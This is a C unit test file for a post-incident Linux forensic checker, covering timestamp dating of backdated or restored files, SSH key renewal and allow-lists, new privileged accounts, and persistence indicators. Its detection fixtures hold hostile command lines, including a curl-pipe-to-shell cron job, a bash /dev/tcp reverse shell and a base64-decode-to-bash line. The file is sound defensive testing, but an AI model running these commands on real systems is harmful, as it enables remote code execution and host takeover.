/* Unit tests: the post-incident evaluators of eval_incident.c (the dating
 * rule, renewals proven by content, allow-listed keys, accounts) and the
 * shipped LNX-INC checks on synthetic probe output. */
#include "config.h"

#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>

#include "core/err.h"
#include "core/util.h"
#include "core/xmalloc.h"
#include "content/content.h"
#include "parse/sshkey.h"
#include "engine/eval.h"
#include "engine/evaluators.h"
#include "engine/registry.h"
#include "evidence/bundle.h"

#define CHECKS RP_TEST_SRCDIR "/checks"

#define NOV01	1793491200LL	/* 2026-11-01, compromise start */
#define NOV10	1794268800LL	/* inside the window */
#define NOV20	1795132800LL	/* 2026-11-20, remediation (a day) */
#define NOV21	1795219200LL	/* the day after */
#define DEC01	1796083200LL	/* audit */

/* Two ed25519 keys and their fingerprints (ssh-keygen -lf). */
#define K_ADMIN	"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKGOEGzGS5NQ4gRT2IwHKC6oOeO5O6RLJL0xzcRDuPk+"
#define FP_ADMIN "SHA256:Ei2faY8HYaRkEXR5LhjwXgxlJ2WD/z1xa2d+HF4SJNs"
#define K_INTRUDER "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAnhj0WZxYcZWcISdd6OUnJCMOTwpuOtWalVe3NPvadS"
#define FP_INTRUDER "SHA256:e4op4TmwfUW4MPEsUA2MgDAyX+eXs2cjQEA3J8X83f4"

static struct rp_content *content;
static int elevated = 1;	/* the target's probes ran as root */

static void
mk_incident(struct rp_incident *inc, long long remediation)
{
	static char *hosts[] = { (char *)"h1" };

	memset(inc, 0, sizeof(*inc));
	inc->compromise_start = (time_t)NOV01;
	inc->containment = (time_t)NOV10;
	inc->remediation = (time_t)remediation;
	inc->hosts = hosts;
	inc->nhosts = 1;
}

/*
 * Evaluate shipped check ID on DATA (its probe's output) for target h1,
 * with an incident context and, when old != NULL, an earlier bundle whose
 * same probe said OLD and that was collected at old_time. obs, evid: the
 * observed value and the evidence (owned), or NULL.
 */
static enum rp_status
eval_inc(const char *id, const char *data, const struct rp_incident *inc,
    const char *old, time_t old_time, char **obs, char **evid)
{
	const struct rp_check *ck = rp_content_check(content, id);
	struct rp_target_ev t, ot;
	struct rp_probe_out po, opo;
	struct rp_bundle b, ob;
	struct rp_resolved r;
	struct rp_baseline bl;
	struct rp_selection sel;
	struct rp_evaluation ev;
	enum rp_status st;

	assert_non_null(ck);
	memset(&t, 0, sizeof(t));
	memset(&po, 0, sizeof(po));
	memset(&b, 0, sizeof(b));
	memset(&r, 0, sizeof(r));
	memset(&bl, 0, sizeof(bl));
	memset(&sel, 0, sizeof(sel));
	t.id = (char *)"h1";
	t.status = RP_TS_OK;
	t.kind = RP_KIND_LINUX;
	t.elevated = elevated;
	t.started = (time_t)DEC01;
	po.probe = ck->probe_id;
	po.status = RP_PS_OK;
	po.started = 1;	/* the probe's proof of run */
	po.data = (char *)data;
	po.len = strlen(data);
	t.probes = &po;
	t.nprobes = 1;
	b.targets = &t;
	b.ntargets = 1;
	b.started = b.finished = (time_t)DEC01;
	ot = t;
	opo = po;
	ob = b;
	if (old != NULL) {
		opo.data = (char *)old;
		opo.len = strlen(old);
		ot.probes = &opo;
		ot.started = old_time;
		ob.targets = &ot;
		ob.started = ob.finished = old_time;
	}
	sel.check = ck;
	sel.expected = ck->has_test ? ck->test.value : ck->evaluator_value;
	sel.severity = ck->severity;
	sel.level = "l";
	sel.baseline = "b";
	bl.kind = RP_KIND_LINUX;
	r.baseline = &bl;
	r.sel = &sel;
	r.nsel = 1;
	rp_evaluate_since(&b, old != NULL ? &ob : NULL, &r, 1, NULL, 0, inc,
	    &ev);
	assert_int_equal(ev.nresults, 1);
	st = ev.results[0].status;
	if (obs != NULL)
		*obs = xstrdup(ev.results[0].observed ?
		    ev.results[0].observed : "");
	if (evid != NULL)
		*evid = xstrdup(ev.results[0].evidence ?
		    ev.results[0].evidence : "");
	if (st == RP_ST_ERROR || st == RP_ST_NA)
		assert_non_null(ev.results[0].reason);
	rp_evaluation_release(&ev);
	return st;
}

/*
 * The dating rule over every ordering of birth, mtime and ctime against
 * the window's edges: each time in one of five places (before, on the
 * first second, inside, on the last second, after), birth also unknown.
 * The expected bits are spelled out from the rule's definition.
 */
static void
judge_orderings(void **state)
{
	const double from = 1000, to = 2000;
	const double place[5] = { 999, 1000, 1500, 2000, 2001 };
	const int inside[5] = { 0, 1, 1, 1, 0 };
	struct rp_ftimes f;
	unsigned int got, want;
	int b, m, c, n = 0;

	(void)state;
	for (b = -1; b < 5; b++)
		for (m = 0; m < 5; m++)
			for (c = 0; c < 5; c++) {
				f.birth = b < 0 ? -1 : place[b];
				f.mtime = place[m];
				f.ctime = place[c];
				want = 0;
				if (b >= 0 && inside[b])
					want |= RP_FT_CREATED;
				if (inside[m])
					want |= RP_FT_CONTENT;
				if (inside[c])
					want |= RP_FT_META;
				if (want != 0 && b >= 0 &&
				    place[m] + 1 < place[b])
					want |= RP_FT_BACKDATED;
				if ((want & RP_FT_CONTENT) && (c == 4 ||
				    b == 4))
					want |= RP_FT_RESTORED;
				got = rp_incident_judge(&f, from, to);
				if (got != want)
					fail_msg("birth %d mtime %d ctime %d: "
					    "got %#x, want %#x", b, m, c, got,
					    want);
				n++;
			}
	assert_int_equal(n, 150);
}

/* The cases of the issue, by name. */
static void
judge_scenarios(void **state)
{
	struct rp_ftimes f;
	const double from = (double)NOV01, to = (double)NOV20 + 86399;

	(void)state;
	/* cp -a restore after the remediation: new inode, old content */
	f.birth = (double)DEC01; f.mtime = (double)NOV10; f.ctime = (double)DEC01;
	assert_int_equal(rp_incident_judge(&f, from, to),
	    RP_FT_CONTENT | RP_FT_BACKDATED | RP_FT_RESTORED);
	/* chmod/chown sweep: ctime only; no birth time on this fs */
	f.birth = -1; f.mtime = (double)NOV10; f.ctime = (double)DEC01;
	assert_int_equal(rp_incident_judge(&f, from, to),
	    RP_FT_CONTENT | RP_FT_RESTORED);
	/* touch -d 2019 of a file planted in the window */
	f.birth = (double)NOV10; f.mtime = 1551657600; f.ctime = (double)NOV10;
	assert_int_equal(rp_incident_judge(&f, from, to),
	    RP_FT_CREATED | RP_FT_META | RP_FT_BACKDATED);
	/* a file written in the window and left alone */
	f.birth = (double)NOV10; f.mtime = (double)NOV10; f.ctime = (double)NOV10;
	assert_int_equal(rp_incident_judge(&f, from, to),
	    RP_FT_CREATED | RP_FT_CONTENT | RP_FT_META);
	/* renewed after the remediation: no suspect */
	f.birth = (double)DEC01; f.mtime = (double)DEC01; f.ctime = (double)DEC01;
	assert_int_equal(rp_incident_judge(&f, from, to), 0);
	/* a package file installed long before, never touched */
	f.birth = 1551657600; f.mtime = 1500000000; f.ctime = 1551657600;
	assert_int_equal(rp_incident_judge(&f, from, to), 0);
}

static void
window_end(void **state)
{
	struct rp_incident inc;

	(void)state;
	mk_incident(&inc, NOV20);
	/* a day counts whole */
	assert_true(rp_incident_window_end(&inc) == (double)NOV20 + 86399);
	/* a time is exact */
	inc.remediation = (time_t)(NOV20 + 3600);
	assert_true(rp_incident_window_end(&inc) == (double)NOV20 + 3600);
	/* not dated: open */
	inc.remediation = 0;
	assert_true(rp_incident_window_end(&inc) > 1e17);
}

/* LNX-INC-001 on the times of a restored, a re-permissioned and a
 * backdated cron file; the finding names each time's kind. */
static void
changed_kinds(void **state)
{
	struct rp_incident inc;
	char *obs = NULL, *evid = NULL;

	(void)state;
	mk_incident(&inc, NOV20);
	/* no file at all (the walk failed on the target): not assessed */
	assert_int_equal(eval_inc("LNX-INC-001", "", &inc, NULL, 0, &obs,
	    &evid), RP_ST_ERROR);
	free(obs);
	free(evid);
	obs = evid = NULL;
	/* a time no file system holds: that file is not judged, no pass */
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1790268800|17960832001796083200|644|0|1796083200|/etc/cron.d/x\n"
	    "1700000000|1700000000|644|0|1700000000|/etc/cron.d/old\n",
	    &inc, NULL, 0, &obs, &evid), RP_ST_ERROR);
	free(obs);
	free(evid);
	obs = evid = NULL;
	/* restored with cp -a on Dec 1: mtime Nov 10 in, ctime/birth after */
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1794268800|1796083200|644|0|1796083200|/etc/cron.d/backup\n",
	    &inc, NULL, 0, &obs, &evid), RP_ST_FAIL);
	assert_non_null(strstr(obs, "/etc/cron.d/backup [content changed "
	    "2026-11-10T00:00:00Z"));
	assert_non_null(strstr(obs, "restored or re-permissioned after the "
	    "remediation, content not renewed"));
	assert_null(strstr(obs, "created"));
	assert_null(strstr(obs, "metadata changed"));
	assert_non_null(strstr(evid, "birth time known for 1"));
	free(obs);
	free(evid);
	/* the old rule, max(mtime, ctime), said pass for a chmod after */
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1794268800|1796083200|644|0|0|/etc/cron.d/x\n", &inc, NULL, 0,
	    &obs, &evid), RP_ST_FAIL);
	assert_non_null(strstr(obs, "content changed"));
	assert_non_null(strstr(evid, "no birth time on this file system"));
	free(obs);
	free(evid);
	/* backdated: mtime 2019, birth and ctime in the window */
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1551657600|1794268800|644|0|1794268800|/etc/cron.d/y\n", &inc,
	    NULL, 0, &obs, NULL), RP_ST_FAIL);
	assert_non_null(strstr(obs, "created 2026-11-10"));
	assert_non_null(strstr(obs, "metadata changed 2026-11-10"));
	assert_non_null(strstr(obs, "mtime before birth"));
	assert_null(strstr(obs, "content changed"));
	free(obs);
	/* the older probe format (no birth field) still reads */
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1794268800|1794268800|644|0|/etc/cron.d/z\n", &inc, NULL, 0,
	    &obs, NULL), RP_ST_FAIL);
	assert_non_null(strstr(obs, "/etc/cron.d/z [content changed"));
	free(obs);
	/* renewed files and untouched ones pass */
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1796083200|1796083200|644|0|1796083200|/etc/cron.d/a\n"
	    "1500000000|1551657600|644|0|1551657600|/etc/cron.d/b\n", &inc,
	    NULL, 0, NULL, NULL), RP_ST_PASS);
	/* the remediation day counts whole; the next day is outside */
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1795219199|1795219199|644|0|0|/etc/cron.d/a\n", &inc, NULL, 0,
	    NULL, NULL), RP_ST_FAIL);
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1795219200|1795219200|644|0|0|/etc/cron.d/a\n", &inc, NULL, 0,
	    NULL, NULL), RP_ST_PASS);
	/* a remediation given with a time is exact */
	inc.remediation = (time_t)(NOV20 + 3600);
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1795136401|1795136401|644|0|0|/etc/cron.d/a\n", &inc, NULL, 0,
	    NULL, NULL), RP_ST_PASS);
	/* not run as root: nothing found is not a pass; a find still is */
	elevated = 0;
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1500000000|1551657600|644|0|1551657600|/etc/cron.d/b\n", &inc,
	    NULL, 0, NULL, &evid), RP_ST_ERROR);
	assert_non_null(strstr(evid, "probe not run as root"));
	free(evid);
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1794268800|1794268800|644|0|0|/etc/cron.d/a\n", &inc, NULL, 0,
	    NULL, NULL), RP_ST_FAIL);
	assert_int_equal(eval_inc("LNX-INC-034", "", &inc, NULL, 0, NULL,
	    NULL), RP_ST_ERROR);
	elevated = 1;
	/* a path with a | keeps it */
	assert_int_equal(eval_inc("LNX-INC-001",
	    "1794268800|1794268800|644|0|-|/etc/cron.d/a|b\n", &inc, NULL, 0,
	    &obs, NULL), RP_ST_FAIL);
	assert_non_null(strstr(obs, "/etc/cron.d/a|b ["));
	free(obs);
}

#define HK_OLD	"1794268800|1796083200|600|0|1796083200|/etc/ssh/ssh_host_ed25519_key\n" \
		"pub|/etc/ssh/ssh_host_ed25519_key.pub|" K_ADMIN " root@h1\n"
#define HK_NEW	"1796083200|1796083200|600|0|1796083200|/etc/ssh/ssh_host_ed25519_key\n"

/* LNX-INC-021: a restore or a touch is no renewal. */
static void
hostkeys(void **state)
{
	struct rp_incident inc;
	char *obs = NULL, *evid = NULL;

	(void)state;
	mk_incident(&inc, NOV20);
	/* restored (cp -a): ctime/birth after, mtime before: not renewed */
	assert_int_equal(eval_inc("LNX-INC-021", HK_OLD, &inc, NULL, 0, &obs,
	    &evid), RP_ST_FAIL);
	assert_non_null(strstr(obs, "content of 2026-11-10"));
	assert_non_null(strstr(obs, "restored or re-permissioned"));
	assert_non_null(strstr(evid, "mtime only"));
	free(obs);
	free(evid);
	/* rewritten after the remediation, no earlier bundle: renewed */
	assert_int_equal(eval_inc("LNX-INC-021", HK_NEW "pub|/etc/ssh/"
	    "ssh_host_ed25519_key.pub|" K_ADMIN "\n", &inc, NULL, 0, NULL,
	    NULL), RP_ST_PASS);
	/* touched after, same fingerprint as before the remediation */
	assert_int_equal(eval_inc("LNX-INC-021", HK_NEW "pub|/etc/ssh/"
	    "ssh_host_ed25519_key.pub|" K_ADMIN "\n", &inc, HK_OLD,
	    (time_t)NOV10, &obs, NULL), RP_ST_FAIL);
	assert_non_null(strstr(obs, "same key " FP_ADMIN));
	free(obs);
	/* a new key: renewed */
	assert_int_equal(eval_inc("LNX-INC-021", HK_NEW "pub|/etc/ssh/"
	    "ssh_host_ed25519_key.pub|" K_INTRUDER "\n", &inc, HK_OLD,
	    (time_t)NOV10, NULL, NULL), RP_ST_PASS);
	/* an earlier bundle from after the remediation proves nothing */
	assert_int_equal(eval_inc("LNX-INC-021", HK_NEW "pub|/etc/ssh/"
	    "ssh_host_ed25519_key.pub|" K_ADMIN "\n", &inc, HK_OLD,
	    (time_t)NOV21, NULL, NULL), RP_ST_PASS);
	/* host not named compromised: na */
	inc.nhosts = 0;
	assert_int_equal(eval_inc("LNX-INC-021", HK_OLD, &inc, NULL, 0, NULL,
	    NULL), RP_ST_NA);
}

#define RK_OLD	"file|root|1794268800|1796083200|600|0|0|/root/.ssh/authorized_keys\n" \
		"key|root|" K_ADMIN " admin@site\n" \
		"key|root|command=\"/bin/x y\",no-pty " K_INTRUDER " intruder\n"

/* LNX-INC-022 and LNX-INC-034: reviewed by content or allow-list. */
static void
adminkeys(void **state)
{
	struct rp_incident inc;
	char *obs = NULL, *evid = NULL, *cause = NULL;
	char path[] = "/tmp/rp-test-allowed-XXXXXX";
	FILE *f;
	int fd;

	(void)state;
	mk_incident(&inc, NOV20);
	/* chmod after the remediation, content of Nov 10: not reviewed */
	assert_int_equal(eval_inc("LNX-INC-022", RK_OLD, &inc, NULL, 0, &obs,
	    &evid), RP_ST_FAIL);
	assert_non_null(strstr(obs, "/root/.ssh/authorized_keys (content of "
	    "2026-11-10"));
	assert_non_null(strstr(obs, "restored or re-permissioned"));
	assert_non_null(strstr(evid, "examined 1 authorized_keys file(s)"));
	free(obs);
	free(evid);
	/* without an allow-list every key is listed, with its fingerprint */
	assert_int_equal(eval_inc("LNX-INC-034", RK_OLD, &inc, NULL, 0, &obs,
	    NULL), RP_ST_FAIL);
	assert_non_null(strstr(obs, "root: ssh-ed25519 " FP_ADMIN));
	assert_non_null(strstr(obs, "root: ssh-ed25519 " FP_INTRUDER));
	free(obs);
	/* rewritten after the remediation: reviewed */
	assert_int_equal(eval_inc("LNX-INC-022", "file|root|1796083200|"
	    "1796083200|600|0|0|/root/.ssh/authorized_keys\nkey|root|" K_ADMIN
	    "\n", &inc, NULL, 0, NULL, NULL), RP_ST_PASS);
	/* the allow-list: a comment, a blank line, options, the admin key */
	fd = mkstemp(path);
	assert_true(fd >= 0);
	f = fdopen(fd, "w");
	fprintf(f, "# site administrators\n\nfrom=\"10.0.0.0/8\" %s "
	    "admin@site\n", K_ADMIN);
	fclose(f);
	assert_int_equal(rp_allowed_keys_load(&inc, path, &cause), 0);
	assert_int_equal(inc.nallowed_keys, 1);
	/* the intruder's key is still there: not reviewed, and listed */
	assert_int_equal(eval_inc("LNX-INC-022", RK_OLD, &inc, NULL, 0, &obs,
	    NULL), RP_ST_FAIL);
	assert_non_null(strstr(obs, "1 not in the allow-list"));
	free(obs);
	assert_int_equal(eval_inc("LNX-INC-034", RK_OLD, &inc, NULL, 0, &obs,
	    NULL), RP_ST_FAIL);
	assert_null(strstr(obs, FP_ADMIN));
	assert_non_null(strstr(obs, FP_INTRUDER));
	free(obs);
	/* only allowed keys, old file: reviewed; 034 passes */
	assert_int_equal(eval_inc("LNX-INC-022", "file|root|1794268800|"
	    "1796083200|600|0|0|/root/.ssh/authorized_keys\nkey|root|" K_ADMIN
	    "\n", &inc, NULL, 0, NULL, NULL), RP_ST_PASS);
	assert_int_equal(eval_inc("LNX-INC-034", "file|root|1794268800|"
	    "1796083200|600|0|0|/root/.ssh/authorized_keys\nkey|root|" K_ADMIN
	    "\n", &inc, NULL, 0, NULL, NULL), RP_ST_PASS);
	/* a bad line names the file and the line */
	f = fopen(path, "a");
	fprintf(f, "not a key\n");
	fclose(f);
	assert_int_not_equal(rp_allowed_keys_load(&inc, path, &cause), 0);
	assert_non_null(strstr(cause, ":4: not an OpenSSH public key line"));
	free(cause);
	cause = NULL;
	/* a NUL inside a line is not a key line (never a key cut short) */
	f = fopen(path, "w");
	fprintf(f, "%s\r\n", K_ADMIN);
	fputs("ssh-ed25519 AAAA", f);
	fputc('\0', f);
	fputs("AAAA\n", f);
	fclose(f);
	assert_int_not_equal(rp_allowed_keys_load(&inc, path, &cause), 0);
	assert_non_null(strstr(cause, ":2: not an OpenSSH public key line"));
	free(cause);
	cause = NULL;
	unlink(path);
	/* a FIFO is refused at once (the reader of core/file.h), not waited
	 * on; a missing file names it */
	assert_int_equal(mkfifo(path, 0600), 0);
	assert_int_equal(rp_allowed_keys_load(&inc, path, &cause),
	    RP_ERR_INVALID);
	assert_non_null(strstr(cause, "not a regular file"));
	free(cause);
	cause = NULL;
	unlink(path);
	assert_int_equal(rp_allowed_keys_load(&inc, path, &cause),
	    RP_ERR_NOT_FOUND);
	assert_non_null(strstr(cause, path));
	free(cause);
	while (inc.nallowed_keys > 0)
		free(inc.allowed_keys[--inc.nallowed_keys]);
	free(inc.allowed_keys);
	inc.allowed_keys = NULL;
	/* no allow-list, host not compromised: na */
	inc.nhosts = 0;
	assert_int_equal(eval_inc("LNX-INC-034", RK_OLD, &inc, NULL, 0, NULL,
	    NULL), RP_ST_NA);
}

static void
fingerprint(void **state)
{
	const char *type, *blob;
	size_t tlen, blen;
	char fp[64];
	const char *l = "no-pty,command=\"echo ssh-rsa x\" " K_ADMIN " c";

	(void)state;
	assert_int_equal(rp_ssh_key_parse(l, strlen(l), &type, &tlen, &blob,
	    &blen), 0);
	assert_int_equal(tlen, 11);
	assert_memory_equal(type, "ssh-ed25519", 11);
	rp_ssh_fingerprint(blob, blen, fp, sizeof(fp));
	assert_string_equal(fp, FP_ADMIN);
	rp_ssh_fingerprint("abc", 3, fp, sizeof(fp));
	assert_string_equal(fp, "SHA256:?");
	assert_int_equal(rp_ssh_key_parse("ssh-ed25519", 11, &type, &tlen,
	    &blob, &blen), -1);
	assert_int_equal(rp_ssh_key_parse("ssh-ed25519 !!", 14, &type, &tlen,
	    &blob, &blen), -1);
}

/* LNX-INC-035: shadow last-change day in the window; new privileged. */
static void
accounts(void **state)
{
	struct rp_incident inc;
	char *obs = NULL, *evid = NULL;
	const char *now =
	    "group|sudo|alice,svc\ngroup|uid0|root\ngroup|uid0|toor\n"
	    "passwd|root|0|\npasswd|alice|1000|\npasswd|svc|1001|\n"
	    "passwd|toor|0|\npasswd|web|1002|\n"
	    "shadow|root|20792|set|\nshadow|alice|19000|set|\n"
	    "shadow|svc|20767|locked|\nshadow|toor|19000|set|\n"
	    "shadow|web|20778|set|\n";
	const char *old = "group|sudo|alice\ngroup|uid0|root\n"
	    "passwd|root|0|\npasswd|alice|1000|\nshadow|root|19000|set|\n";

	(void)state;
	mk_incident(&inc, NOV20);
	assert_int_equal(eval_inc("LNX-INC-035", now, &inc, NULL, 0, &obs,
	    &evid), RP_ST_FAIL);
	assert_non_null(strstr(obs, "svc (created or password set on "
	    "2026-11-10"));
	assert_null(strstr(obs, "root"));	/* Dec 4: after */
	assert_null(strstr(obs, "web"));	/* Nov 21: after */
	assert_non_null(strstr(evid, "no earlier evidence bundle"));
	free(obs);
	free(evid);
	assert_int_equal(eval_inc("LNX-INC-035", now, &inc, old,
	    (time_t)NOV01 - 86400, &obs, NULL), RP_ST_FAIL);
	assert_non_null(strstr(obs, "toor (UID 0, new since"));
	assert_non_null(strstr(obs, "svc (added to sudo since"));
	assert_non_null(strstr(obs, "web (UID 1002, new since"));
	assert_null(strstr(obs, "alice"));
	free(obs);
	/* nothing read: error, not pass */
	assert_int_equal(eval_inc("LNX-INC-035", "group|sudo|\n", &inc, NULL,
	    0, NULL, NULL), RP_ST_ERROR);
	assert_int_equal(eval_inc("LNX-INC-035", "shadow|root|19000|set|\n",
	    &inc, NULL, 0, NULL, NULL), RP_ST_PASS);
}

/* The content indicators: lines found whatever the dates. */
static void
content_indicators(void **state)
{
	struct rp_incident inc;
	char *obs = NULL;

	(void)state;
	mk_incident(&inc, NOV20);
	assert_int_equal(eval_inc("LNX-INC-030",
	    "line|/etc/cron.d/backup:1:* * * * * root curl -fsSL http://x/a "
	    "| sh\n", &inc, NULL, 0, &obs, NULL), RP_ST_FAIL);
	assert_non_null(strstr(obs, "/etc/cron.d/backup:1:"));
	free(obs);
	assert_int_equal(eval_inc("LNX-INC-030",
	    "line|/etc/profile.d/z.sh:3:bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
	    &inc, NULL, 0, NULL, NULL), RP_ST_FAIL);
	assert_int_equal(eval_inc("LNX-INC-030",
	    "line|/etc/rc.local:2:echo aGk= | base64 -d | bash\n", &inc, NULL,
	    0, NULL, NULL), RP_ST_FAIL);
	assert_int_equal(eval_inc("LNX-INC-030",
	    "line|/etc/cron.d/x:2:python3 -c 'import socket,os;...'\n", &inc,
	    NULL, 0, NULL, NULL), RP_ST_FAIL);
	assert_int_equal(eval_inc("LNX-INC-030",
	    "line|/etc/init.d/x11-common:33:  DIR=\"/tmp/$1\"\n"
	    "line|/root/.bashrc:19:export PYENV_ROOT=\"$HOME/.pyenv\"\n"
	    "line|/etc/cron.d/y:1:curl -o /var/tmp/f http://x\n", &inc, NULL,
	    0, NULL, NULL), RP_ST_PASS);
	/* jobs from temporary or hidden paths: cron and units only */
	assert_int_equal(eval_inc("LNX-INC-031",
	    "line|/etc/cron.d/backup:1:* * * * * root /tmp/.x/run.sh\n", &inc,
	    NULL, 0, NULL, NULL), RP_ST_FAIL);
	assert_int_equal(eval_inc("LNX-INC-031",
	    "line|/etc/systemd/system/upd.service:6:ExecStart=/usr/lib/.cache/"
	    "upd\n", &inc, NULL, 0, NULL, NULL), RP_ST_FAIL);
	assert_int_equal(eval_inc("LNX-INC-031",
	    "line|/etc/systemd/system/upd.service:6:ExecStart=/dev/shm/k\n",
	    &inc, NULL, 0, NULL, NULL), RP_ST_FAIL);
	assert_int_equal(eval_inc("LNX-INC-031",
	    "line|/etc/init.d/x11-common:33:  DIR=\"/tmp/$1\"\n"
	    "line|/etc/cron.d/y:1:# old: /tmp/x\n"
	    "line|/root/.bashrc:19:export PYENV_ROOT=\"$HOME/.pyenv\"\n", &inc,
	    NULL, 0, NULL, NULL), RP_ST_PASS);
	assert_int_equal(eval_inc("LNX-INC-032", "preload|/usr/lib/libx.so\n",
	    &inc, NULL, 0, NULL, NULL), RP_ST_FAIL);
	assert_int_equal(eval_inc("LNX-INC-032", "line|/etc/x:1:y\n", &inc,
	    NULL, 0, NULL, NULL), RP_ST_PASS);
	/* PAM modules: distribution directory and a package, else found */
	assert_int_equal(eval_inc("LNX-INC-033",
	    "pam|pam_unix.so|/lib/x86_64-linux-gnu/security/pam_unix.so|"
	    "libpam-modules\npam|pam_x.so|-|?\n"
	    "pam|pam_sss.so|/usr/lib64/security/pam_sss.so|sssd-client\n",
	    &inc, NULL, 0, NULL, NULL), RP_ST_PASS);
	assert_int_equal(eval_inc("LNX-INC-033",
	    "pam|pam_unix.so|/lib/x86_64-linux-gnu/security/pam_unix.so|-\n",
	    &inc, NULL, 0, NULL, NULL), RP_ST_FAIL);
	assert_int_equal(eval_inc("LNX-INC-033",
	    "pam|/opt/.x/pam_z.so|/opt/.x/pam_z.so|?\n", &inc, NULL, 0, NULL,
	    NULL), RP_ST_FAIL);
}

static int
setup(void **state)
{
	char *cause = NULL;

	(void)state;
	if (rp_eval_content_load(CHECKS, &content, &cause) != 0) {
		fprintf(stderr, "load: %s\n", cause);
		return -1;
	}
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	rp_content_free(content);
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(judge_orderings),
		cmocka_unit_test(judge_scenarios),
		cmocka_unit_test(window_end),
		cmocka_unit_test(changed_kinds),
		cmocka_unit_test(hostkeys),
		cmocka_unit_test(adminkeys),
		cmocka_unit_test(fingerprint),
		cmocka_unit_test(accounts),
		cmocka_unit_test(content_indicators),
	};

	return cmocka_run_group_tests_name("incident", tests, setup,
	    teardown);
}
